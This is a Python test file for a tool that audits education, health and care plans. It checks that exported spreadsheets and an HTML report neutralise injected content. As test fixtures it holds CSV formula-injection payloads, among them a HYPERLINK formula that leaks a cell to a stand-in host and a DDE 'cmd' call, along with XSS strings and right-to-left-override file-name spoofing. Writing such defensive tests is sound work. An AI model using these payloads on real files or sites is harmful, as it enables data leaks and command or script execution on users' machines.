"""No injection through the batch's files: no spreadsheet cell runs as a formula, the cohort page shows a plan's
markup and direction controls as text, and labels.csv still names the files it labels."""
import base64
import csv
import re
import shutil
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

from click.testing import CliRunner

from ehcp_nlp.batch.audit import record_decision
from ehcp_nlp.batch.cohort import cohort_figures
from ehcp_nlp.batch.labels import export_labels
from ehcp_nlp.batch.moderation import write_moderation_sample
from ehcp_nlp.batch.records import PlanRecord, load_records, save
from ehcp_nlp.batch.tables import write_tables
from ehcp_nlp.cli import main
from ehcp_nlp.outputs.cohort_html import cohort_html
from ehcp_nlp.outputs.safe_text import BIDI_CONTROLS, restore_cell, safe_cell, safe_path_cell
from ehcp_nlp.rating.training import read_labels
from tests.batch.test_cohort import advice, flag, make_records, plan
from tests.conftest import FIXTURES
from tests.outputs.test_no_injection import HOSTILE, hostile_plan

RLO = "\u202e"
LINK = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Open")'
# what starts a formula, as a file name, a manifest value, a name given with --by, a flag's evidence
FORMULAS = [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "\n -1", "\u200b=1+1",
            "\uff1d1+1"]


def _formula(cell: str) -> bool:
    """Whether Excel (or LibreOffice, leading spaces skipped) would read the cell as a formula."""
    start = cell.lstrip().lstrip("\u200b\ufeff").lstrip()
    return cell[:1] in ("\t", "\r") or (start[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


def _inert(cell: str) -> bool:
    return not _formula(cell) and not any(c in BIDI_CONTROLS for c in cell)


def _csv(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _hostile_records():
    records = [PlanRecord(id=f"{n:04x}beef{n:08x}", sha256="", file=f"{text}.txt", kind="plan", suggested="Good",
                          confidence=0.7, total=40, out_of=60, scores={"A": 4},
                          flags=[flag("need.vague", message=f"Need is vague {text}", evidence=f"{text} {HOSTILE}")],
                          meta={"audit_month": "2026-03", "key_stage": text, "setting": f"{RLO}loohcS",
                                "caseworker": LINK})
               for n, text in enumerate(FORMULAS)]
    records.append(PlanRecord(id="ffffbeef00000001", sha256="", file=f"plain{RLO}txt.exe.txt", kind="plan",
                              suggested="Good", meta={"audit_month": "2026-03", "key_stage": "KS2"}))
    records.append(PlanRecord(id="ffffbeef00000002", sha256="", file="plans/ordinary plan.docx", kind="plan",
                              suggested="Good", meta={"audit_month": "2026-03", "key_stage": "KS2"}))
    records.append(PlanRecord(id="ffffbeef00000003", sha256="", file="=broken.pdf", status="failed",
                              error=f"-{LINK}: not a PDF"))
    return records


# -- spreadsheets --------------------------------------------------------------------------------------------------


def test_plans_flags_and_failed_tables_neutralise_every_formula_cell(tmp_path):
    write_tables(tmp_path, _hostile_records())
    for name in ("plans.csv", "flags.csv", "failed.csv"):
        rows = _csv(tmp_path / name)
        assert all(_inert(cell) for row in rows for cell in row), (name, [c for r in rows for c in r if not _inert(c)])
    plans = {row[1]: row for row in _csv(tmp_path / "plans.csv")[1:]}
    assert "'" + LINK + ".txt" in plans and "'\t=1+1.txt" in plans and "'  =1+1.txt" in plans
    assert "plain[U+202E]txt.exe.txt" in plans and "plans/ordinary plan.docx" in plans      # normal names as they are
    assert {restore_cell(name) for name in plans} >= {f"{text}.txt".replace("\r", "\n") for text in FORMULAS}
    assert "'\n=1+1.txt" in plans            # a carriage return would end the row in Excel: a line feed, quoted
    assert "'" + LINK in plans["'" + LINK + ".txt"]                                          # the caseworker too


def test_plans_xlsx_holds_no_formula(tmp_path):
    from openpyxl import load_workbook

    write_tables(tmp_path, _hostile_records())
    sheet = load_workbook(tmp_path / "plans.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(_inert(c.value) for c in cells if isinstance(c.value, str))
    assert "'" + LINK + ".txt" in [c.value for c in cells] and "plans/ordinary plan.docx" in [c.value for c in cells]


def test_moderation_sample_neutralises_file_names_and_manifest_values(tmp_path):
    out = tmp_path / "out"
    for record in _hostile_records():
        save(out, record, review=None)
    record_decision(out, "0000beef00000000", "auditor", "Inadequate", by=LINK)
    sample = write_moderation_sample(out, share=1.0, strata=("suggested", "key_stage"))
    rows = _csv(sample.path)
    assert len(rows) == len(FORMULAS) + 3                                        # header, the plans, no failed file
    assert all(_inert(cell) for row in rows for cell in row), [c for r in rows for c in r if not _inert(c)]
    files = [row[1] for row in rows[1:]]
    assert "'" + LINK + ".txt" in files and "plain[U+202E]txt.exe.txt" in files and "plans/ordinary plan.docx" in files
    assert any("stratum Good / +cmd|' /C calc'!A0 / 2026-03" == row[-1] for row in rows[1:])   # mid-cell: as it is


def test_labels_csv_neutralises_names_and_still_names_the_same_files(tmp_path):
    """labels.csv is read back by ``ehcp-nlp train --labels``: a neutralised file name is still the file."""
    from ehcp_nlp.rating.training import load_dataset

    folder, out = tmp_path / "plans", tmp_path / "out"
    folder.mkdir()
    names = ['=HYPERLINK("x","y").txt', "-minus.txt", "@at.txt", " +space.txt", "ordinary.txt"]
    source = FIXTURES / "plans" / "nonverbal_lettered.txt"
    for n, name in enumerate(names):
        shutil.copy(source, folder / name)
        save(out, PlanRecord(id=f"{n:04x}cafe{n:08x}", sha256="", file=name, kind="plan", suggested="Good"),
             review=None)
        record_decision(out, f"{n:04x}cafe{n:08x}", "auditor", "Good", by=LINK if n % 2 else "\t-A. Patel",
                        when="2026-03-02")
    target = tmp_path / "labels.csv"
    assert export_labels(out, target) == len(names)
    assert all(_inert(cell) for row in _csv(target) for cell in row)
    rows = read_labels(target)
    assert [r["file"] for r in rows] == ["./ +space.txt", "./-minus.txt", './=HYPERLINK("x","y").txt', "./@at.txt",
                                         "ordinary.txt"]
    for row, name in zip(rows, sorted(names)):
        assert (folder / row["file"]).samefile(folder / name)
    assert {r["auditor"] for r in rows} <= {"'" + LINK, "'-A. Patel"}
    data = load_dataset(target, plans=folder)                                  # what ``train --labels`` reads
    assert not data.failed and len(data.files) == len(names)


def test_path_cells_and_restore():
    assert safe_path_cell("plans/plan 1.docx") == "plans/plan 1.docx"
    assert safe_path_cell("=x.txt") == "./=x.txt" and safe_path_cell(f"a{RLO}b.txt") == "a[U+202E]b.txt"
    for text in FORMULAS:
        assert restore_cell(safe_cell(text)) == text.replace("\r", "\n")
        assert safe_cell(safe_cell(text)) == safe_cell(text)
    assert safe_cell("a\r\nb\rc") == "a\nb\nc" and safe_cell("\rfoo") == "'\nfoo"
    for value in ("Good", "KS2", "2026-03", "J. Smith", "plans/plan_001.docx", 3, -2.5, None, ""):
        assert safe_cell(value) == value and restore_cell(value) == value


# -- the cohort report ---------------------------------------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs, self.text = set(), [], []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]

    def handle_data(self, data):
        self.text.append(data)


def _hostile_cohort():
    records = make_records()
    hostile = f"<svg onload=alert(1)> {RLO}gnp.exe <img src=x onerror=alert(2)> [x](http://127.0.0.1/)"
    pasted = f"The school will <script>alert(3)</script> review this {RLO} provision every half term with staff."
    for n in (20, 21, 22):
        records.append(plan(n, "Good", "2026-03", statements={"F": [pasted]}))
    records.append(advice(30, hostile, [flag("advice.weak", "advice", message=f"Weak: {hostile}")]))
    records.append(PlanRecord(id="r09", sha256="", file=f"reviews/{RLO}<b>r9</b>.docx", kind="review",
                              meta={"setting": hostile},
                              flags=[flag("review.no_amendments", "review", message=f"No amendments {hostile}")]))
    records.append(PlanRecord(id="f09", sha256="", file=f"<img src=x onerror=alert(4)>{RLO}.pdf", status="failed",
                              error=f"/x/<img src=x onerror=alert(4)>{RLO}.pdf: {hostile}"))
    return records


def test_cohort_report_shows_hostile_text_as_text():
    page = cohort_html(cohort_figures(_hostile_cohort()), generated="24 November 2026")
    parsed = _Page()
    parsed.feed(page)
    assert not parsed.tags & {"script", "svg", "iframe", "object", "embed", "link", "b"}
    assert not [a for a in parsed.attrs if a[1].startswith("on")]
    sources = [v for tag, k, v in parsed.attrs if k in ("src", "href")]
    assert all(v.startswith(("#", "data:image/svg+xml;base64,")) for v in sources), sources
    text = "".join(parsed.text)
    assert "<svg onload=alert(1)> [U+202E]gnp.exe" in text and "<script>alert(3)</script>" in text
    assert "<img src=x onerror=alert(4)>[U+202E].pdf" in text
    assert not any(c in BIDI_CONTROLS for c in page)
    charts = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', page)
    assert charts
    for uri in charts:                                                          # the charts' labels too
        svg = base64.b64decode(uri).decode("utf-8")
        elements = list(ET.fromstring(svg).iter())
        assert {e.tag.split("}")[-1] for e in elements} <= {"svg", "title", "rect", "text", "line", "g", "path",
                                                            "circle", "polyline", "tspan", "desc"}
        assert not [k for e in elements for k in e.attrib if k.lower().startswith("on")]
        assert not any(c in BIDI_CONTROLS for c in svg)


# -- a whole batch -------------------------------------------------------------------------------------------------


def test_a_batch_of_a_hostile_plan_writes_inert_files(tmp_path):
    folder, out = tmp_path / "plans", tmp_path / "out"
    folder.mkdir()
    hostile_plan(folder, name='=HYPERLINK("x","y") ' + RLO + "gnp.txt")
    result = CliRunner().invoke(main, ["batch", str(folder), "-o", str(out), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    records = load_records(out)
    assert [r.status for r in records] == ["ok"] and records[0].flags
    for name in ("plans.csv", "flags.csv"):
        rows = _csv(out / name)
        assert all(_inert(cell) for row in rows for cell in row), name
        assert rows[1][1] == "'=HYPERLINK(\"x\",\"y\") [U+202E]gnp.txt"
    from openpyxl import load_workbook

    cells = [c for row in load_workbook(out / "plans.xlsx").active.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f" or (isinstance(c.value, str) and not _inert(c.value))]
    page = (out / "report.html").read_text(encoding="utf-8")
    assert not any(c in BIDI_CONTROLS for c in page) and "<script" not in page


def test_a_file_name_with_a_control_marker_reads_back_as_the_same_file():
    from ehcp_nlp.outputs.safe_text import restore_controls, safe_path_cell

    name = "plan\u202etxt.docx"
    assert restore_controls(safe_path_cell(name)) == name
    assert restore_controls("[U+0041] stays as written") == "[U+0041] stays as written"
